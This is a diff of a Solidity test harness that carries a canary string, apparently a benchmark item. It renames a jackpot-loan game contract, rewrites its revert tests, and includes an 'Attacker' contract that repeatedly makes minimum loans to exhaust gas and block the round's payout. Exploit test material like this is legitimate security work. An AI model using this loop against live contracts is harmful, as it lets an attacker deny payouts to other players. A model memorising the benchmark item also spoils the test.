@@ -1,6 +1,6 @@
 pragma solidity 0.4.26;
 
-import "./MillpondLadder.sol";
+import "./JackpotLoans.sol";
 
 // assay-canary-27c8efcb-77dc-4f13-a01c-4dff14e39703
 
@@ -8,7 +8,23 @@ interface Vm {
     function deal(address who, uint256 balance) external;
     function prank(address sender) external;
     function warp(uint256 time) external;
-    function expectRevert() external;
+    function expectRevert(bytes reason) external;
+}
+
+contract Sums {
+    using SafeMath for uint;
+
+    function add(uint a, uint b) public pure returns (uint) {
+        return a.add(b);
+    }
+
+    function sub(uint a, uint b) public pure returns (uint) {
+        return a.sub(b);
+    }
+
+    function percent(uint a, uint share) public pure returns (uint) {
+        return a.percent(share);
+    }
 }
 
 contract Proof {
@@ -19,102 +35,120 @@ contract Proof {
     // what a block could hold in the spring of 2016
     uint constant BLOCK_GAS = 4712388;
 
-    MillpondLadder internal pond;
-    Attacker internal crowd;
+    JackpotLoans internal game;
+    Attacker internal mallory;
 
     function setUp() public {
         vm.warp(1461000000);
         vm.deal(address(this), 100 ether);
-        pond = (new MillpondLadder).value(100 ether)();
+        game = (new JackpotLoans).value(100 ether)();
         vm.deal(MANY, 5000 ether);
         for (uint i = 0; i < EARLIER; i++) {
             vm.prank(MANY);
-            pond.climb.value(50 ether)();
+            game.lend.value(50 ether)();
         }
         vm.deal(LAST, 200 ether);
-        crowd = new Attacker(pond);
-        vm.deal(address(crowd), 5 ether);
+        mallory = new Attacker(game);
+        vm.deal(address(mallory), 5 ether);
     }
 
     function test_Regular() public {
-        require(pond.chest() == 100 ether + EARLIER * 10 ether && pond.ladderNumber() == 0);
-        uint left = pond.waiting();
+        require(game.jackpot() == 100 ether + EARLIER * 10 ether && game.round() == 0);
+        uint left = game.openLoans();
         require(left > 0 && left < EARLIER);
-        require(!address(pond).call(abi.encodeWithSignature("takeDown()")));
+        require(!address(game).call(abi.encodeWithSignature("closeRound()")));
 
         vm.prank(LAST);
-        pond.climb.value(160 ether)();
-        require(pond.waiting() == left - 1 && pond.top() == LAST);
-        require(!address(pond).call.value(1 finney)(abi.encodeWithSignature("climb()")));
+        game.lend.value(160 ether)();
+        require(game.openLoans() == left - 1 && game.lastLender() == LAST);
+        require(!address(game).call.value(1 finney)(abi.encodeWithSignature("lend()")));
 
-        uint chest = pond.chest();
+        uint jackpot = game.jackpot();
         vm.warp(1461000000 + 12 hours);
-        require(!address(pond).call.value(1 ether)(abi.encodeWithSignature("climb()")));
-        pond.takeDown.gas(BLOCK_GAS)();
-        require(pond.purse(LAST) == chest && pond.top() == 0 && pond.waiting() == 0);
-        require(pond.chest() == 0 && pond.ladderNumber() == 1);
+        require(!address(game).call.value(1 ether)(abi.encodeWithSignature("lend()")));
+        game.closeRound.gas(BLOCK_GAS)();
+        require(game.balances(LAST) == jackpot && game.lastLender() == 0 && game.openLoans() == 0);
+        require(game.jackpot() == 0 && game.round() == 1);
         vm.prank(LAST);
-        pond.emptyPurse();
-        require(LAST.balance == 40 ether + chest);
+        game.withdraw();
+        require(LAST.balance == 40 ether + jackpot);
 
-        // the next ladder begins with what is in the pond
-        uint rest = pond.pond();
+        // the next round begins with what is in the pool
+        uint rest = game.pool();
         vm.prank(LAST);
-        pond.climb.value(10 ether)();
-        require(pond.waiting() == 0 || pond.purse(LAST) == 0);
-        require(pond.pond() == rest + 8 ether || pond.purse(LAST) == 11 ether);
-        require(pond.chest() == 2 ether);
+        game.lend.value(10 ether)();
+        require(game.openLoans() == 0 || game.balances(LAST) == 0);
+        require(game.pool() == rest + 8 ether || game.balances(LAST) == 11 ether);
+        require(game.jackpot() == 2 ether);
 
-        address miller = pond.miller();
-        vm.deal(miller, miller.balance + 1 ether);
-        vm.prank(miller);
-        pond.addToChest.value(1 ether)();
-        require(pond.chest() == 3 ether);
-        pond.repay(1);
+        address owner = game.owner();
+        vm.deal(owner, owner.balance + 1 ether);
+        vm.prank(owner);
+        game.fundJackpot.value(1 ether)();
+        require(game.jackpot() == 3 ether);
+        game.payBack(1);
+        vm.prank(owner);
+        game.transferOwnership(LAST);
+        require(game.owner() == LAST);
     }
 
-    // What is refused, each from the state after setUp(). The pond gives no reasons.
-
-    function test_RefusesStrangersAtTheChest() public {
-        vm.prank(LAST);
-        vm.expectRevert();
-        pond.addToChest.value(1 ether)();
+    function refuses(address who, bytes why) internal {
+        vm.prank(who);
+        vm.expectRevert(why);
     }
 
-    function test_RefusesToEmptyEmptyPurses() public {
-        vm.prank(LAST);
-        vm.expectRevert();
-        pond.emptyPurse();
+    // What is refused, each from the state after setUp().
+
+    function test_RefusesStrangers() public {
+        refuses(LAST, "not the owner");
+        game.fundJackpot.value(1 ether)();
+        refuses(LAST, "not the owner");
+        game.transferOwnership(LAST);
+        refuses(address(this), "no new owner");
+        game.transferOwnership(address(0));
     }
 
-    function test_RefusesSmallLoans() public {
-        vm.prank(LAST);
-        vm.expectRevert();
-        pond.climb.value(10 finney - 1)();
-        vm.prank(LAST);
-        pond.climb.value(10 finney)();
+    function test_RefusesEmptyWithdrawals() public {
+        refuses(LAST, "nothing to withdraw");
+        game.withdraw();
     }
 
-    function test_RefusesToClimbWhenItIsOver() public {
+    function test_RefusesRounds() public {
+        refuses(LAST, "loan too small");
+        game.lend.value(10 finney - 1)();
+        vm.prank(LAST);
+        game.lend.value(10 finney)();
+        refuses(LAST, "round is not over");
+        game.closeRound();
         vm.warp(1461000000 + 12 hours);
-        vm.prank(LAST);
-        vm.expectRevert();
-        pond.climb.value(1 ether)();
+        refuses(LAST, "round is over");
+        game.lend.value(1 ether)();
     }
 
-    // somebody climbs, twelve hours pass, and the climber gets the chest in a block like any other
+    // somebody lends, twelve hours pass, and the lender gets the jackpot in a block like any other
     function honestWinner() public {
         vm.prank(LAST);
-        pond.climb.value(1 ether)();
-        vm.warp(pond.lastClimb() + 12 hours);
+        game.lend.value(1 ether)();
+        vm.warp(game.lastLoanAt() + 12 hours);
         vm.prank(LAST);
-        pond.takeDown.gas(BLOCK_GAS)();
+        game.closeRound.gas(BLOCK_GAS)();
         vm.prank(LAST);
-        pond.emptyPurse();
+        game.withdraw();
+    }
+
+    function test_RefusesSums() public {
+        Sums sums = new Sums();
+        require(sums.percent(0, 3) == 0);
+        vm.expectRevert("sum too large");
+        sums.add(uint(-1), 1);
+        vm.expectRevert("difference below zero");
+        sums.sub(1, 2);
+        vm.expectRevert("product too large");
+        sums.percent(uint(-1), 3);
     }
 
     function exploit() public {
-        crowd.run();
+        mallory.run();
     }
 
     function test_Exploit() public {
@@ -123,25 +157,25 @@ contract Proof {
     }
 
     function target() public view returns (address) {
-        return address(pond);
+        return address(game);
     }
 
     function attacker() public view returns (address) {
-        return address(crowd);
+        return address(mallory);
     }
 }
 
-/// Climbs again and again with the least loan.
+/// Lends the smallest amount again and again.
 contract Attacker {
-    MillpondLadder internal pond;
+    JackpotLoans internal game;
 
-    constructor(MillpondLadder pond_) public {
-        pond = pond_;
+    constructor(JackpotLoans game_) public {
+        game = game_;
     }
 
     function () external payable {}
 
     function run() external {
-        while (gasleft() > 400000 && address(this).balance >= 10 finney) pond.climb.value(10 finney)();
+        while (gasleft() > 400000 && address(this).balance >= 10 finney) game.lend.value(10 finney)();
     }
 }
